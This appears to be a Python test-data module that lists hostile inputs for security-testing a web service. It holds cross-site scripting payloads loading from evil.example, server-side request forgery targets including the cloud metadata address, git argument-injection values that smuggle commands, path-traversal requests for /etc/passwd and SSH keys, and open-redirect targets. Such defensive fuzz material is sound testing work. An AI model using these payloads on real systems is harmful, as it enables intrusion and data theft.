# ruff: noqa: E501  (lists read better in long lines)
"""What is thrown at the web process, as data: texts that try to become markup, targets that lead inside, odd paths."""

from itertools import product

# How a text may try to leave the place where it stands ...
WAYS_OUT = (
    "", '">', "'>", '" ', "' ", "-->", "]]>", "`", "\\\"", "&quot;>", "</title>", "</textarea>", "</script>", "</style>",
    "</svg>", "</pre></code>", "</template>", "</select>", "%22%3E", "\x1b]8;;\x07",
)  # fmt: skip
# ... and what it would like to be then. `pwned()` is what a browser would run.
WISHES = (
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>",
    "<math><mi xlink:href=javascript:pwned()>x",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<a href=javascript:pwned()>x</a>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<object data=data:text/html,<script>pwned()</script>></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "onmouseover=pwned() autofocus onfocus=pwned() x=",
    "hx-get=//evil.example hx-trigger=load hx-on::load=pwned() ",
    "[x](javascript:pwned()) ![x](//evil.example/x.png)",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "javascript:pwned()//",
    "data:text/html,<script>pwned()</script>",
    "<b style=background:url(//evil.example/x)>x</b>",
    "\u202e\u2066<scr\u200bipt>pwned()</script>\x1b[31m\x9b2J\ufeff",
    "<textarea><plaintext><noscript><p title='</noscript><img src=x onerror=pwned()>'>",
)
PAYLOADS = tuple(way + wish for way, wish in product(WAYS_OUT, WISHES))

# Targets of a review: ways to make the service ask something inside, or run something.
INSIDE = tuple(
    target.replace("PORT", "{port}")
    for target in (
        "https://127.0.0.1:PORT/repo.git",
        "https://localhost:PORT/repo.git",
        "https://LOCALHOST.:PORT/repo.git",
        "https://127.1:PORT/repo.git",
        "https://127.0.0.1.:PORT/repo.git",
        "https://2130706433:PORT/repo.git",
        "https://0x7f000001:PORT/repo.git",
        "https://0177.0.0.1:PORT/repo.git",
        "https://0:PORT/repo.git",
        "https://0.0.0.0:PORT/repo.git",
        "https://[::1]:PORT/repo.git",
        "https://[::]:PORT/repo.git",
        "https://[::ffff:127.0.0.1]:PORT/repo.git",
        "https://[::ffff:7f00:1]:PORT/repo.git",
        "https://[0:0:0:0:0:ffff:127.0.0.1]:PORT/repo.git",
        "https://[64:ff9b::7f00:1]:PORT/repo.git",
        "https://[2002:7f00:1::]:PORT/repo.git",
        "https://[fe80::1%25lo]:PORT/repo.git",
        "https://①②⑦.⓪.⓪.①:PORT/repo.git",
        "https://localhost%00.example.org:PORT/repo.git",
        "https://example.org@127.0.0.1:PORT/repo.git",
        "https://127.0.0.1:PORT@example.org/../repo.git",
        "https://example.org#@127.0.0.1:PORT/repo.git",
        "https://example.org\\@127.0.0.1:PORT/repo.git",
        "https://127.0.0.1:PORT\\@example.org/repo.git",
        "https:/127.0.0.1:PORT/repo.git",
        "https:127.0.0.1:PORT/repo.git",
        "//127.0.0.1:PORT/repo.git",
        "HTTPS://127.0.0.1:PORT/repo.git",
        "https://169.254.169.254/latest/meta-data",
        "https://[fd00:ec2::254]/latest/meta-data",
        "https://10.0.0.1/repo.git",
        "https://192.168.1.1/repo.git",
        "https://100.64.0.1/repo.git",
        "https://224.0.0.1/repo.git",
        "http://127.0.0.1:PORT/repo.git",
        "git://127.0.0.1:PORT/repo.git",
        "ftp://127.0.0.1:PORT/repo.git",
        "gopher://127.0.0.1:PORT/_x",
        "dict://127.0.0.1:PORT/x",
        "file:///etc",
        "file://localhost/etc",
        "ssh://127.0.0.1:PORT/repo.git",
        "ssh://-oProxyCommand=touch${{IFS}}pwned/x",
        "git@127.0.0.1:repo.git",
        "-u127.0.0.1:PORT",
        "--upload-pack=touch pwned",
        "ext::sh -c touch% pwned",
        "fd::17/foo",
        "transport::https://127.0.0.1:PORT/",
        "https://127.0.0.1:PORT/repo.git\r\nHost: example.org",
        "https://127.0.0.1:PORT/repo.git\n",
        "https://user:secret@example.org/repo.git",
        "/etc", "/", "/root", "/proc/self/root", "/proc/self/cwd", "../..", "~root", "~", ".", "/srv/../etc", "//etc",
        "/etc/\x00/srv", "\\\\127.0.0.1\\share", "C:\\Windows",
    )
)  # fmt: skip

# Paths, sent as they are: ways out of what is served.
PATHS = (
    "/static/../app.py", "/static/../../settings.py", "/static/%2e%2e/%2e%2e/settings.py", "/static/..%2f..%2fsettings.py",
    "/static/%2e%2e%2f%2e%2e%2fsettings.py", "/static/..\\..\\settings.py", "/static/..%5c..%5csettings.py",
    "/static/....//....//settings.py", "/static//etc/passwd", "/static/%2fetc%2fpasswd", "/static/%00/etc/passwd",
    "/static/..%c0%af..%c0%afetc/passwd", "/static/%252e%252e%252fetc/passwd", "/static/..;/..;/etc/passwd",
    "/static/vendor/../../../../../../../../etc/passwd", "/../../../../etc/passwd", "//etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
    "/reviews/../../etc/passwd", "/reviews/..%2f..%2fetc%2fpasswd", "/steps/..%2f..%2fetc%2fpasswd/log.txt",
    "/api/steps/..%2f..%2fetc%2fpasswd/log", "/api/reviews/%2e%2e/export", "/api/reviews/x/export?format=../../etc/passwd",
    "/findings/..%2f..%2f", "/repos/%2e%2e%2f%2e%2e", "/schedules/..%00", "http://127.0.0.1/etc/passwd", "/static/file:///etc/passwd",
    "/static/~root/.ssh/id_rsa", "/static/.", "/static/..", "/static/../static/../static/../../__main__.py", "/login?next=//evil.example",
)  # fmt: skip

# Where a login might send people afterwards.
REDIRECTS = (
    "//evil.example", "///evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example",
    "javascript:pwned()", "data:text/html,x", "/%09/evil.example", "//evil.example/%2f..", "https:evil.example", " //evil.example",
    "/\n/evil.example", "http:///evil.example", "/./\\evil.example", "\u2028//evil.example", "@evil.example", ".evil.example",
)  # fmt: skip
